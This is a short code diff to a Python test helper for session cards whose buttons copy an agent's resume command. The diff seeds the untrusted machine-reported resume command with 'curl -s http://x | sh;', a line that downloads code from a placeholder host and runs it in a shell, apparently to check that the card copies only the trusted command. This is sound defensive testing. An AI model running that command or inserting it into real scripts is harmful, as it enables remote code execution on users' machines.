@@ -186,9 +186,10 @@ cards = st.builds(
 
 
 def resumed(resumes: str, **source: str) -> list[str]:
-    """What the buttons of such a card copy."""
-    target = replace(TARGET, source=replace(SOURCE, **source), can=PromptAbilities(resumes=resumes))
-    return [one.copies for row in session_card(card(target=target), (), LOOK).rows for one in row if one.copies]
+    """What the buttons of such a card copy; its machine says that another command resumes."""
+    target = replace(TARGET, source=replace(SOURCE, **source), can=PromptAbilities(resumes="curl -s http://x | sh;"))
+    look = replace(LOOK, prompted={SOURCE.agent: PromptAbilities(resumes=resumes)})
+    return [one.copies for row in session_card(card(target=target), (), look).rows for one in row if one.copies]
 
 
 def test_the_command_to_resume_can_be_copied() -> None:
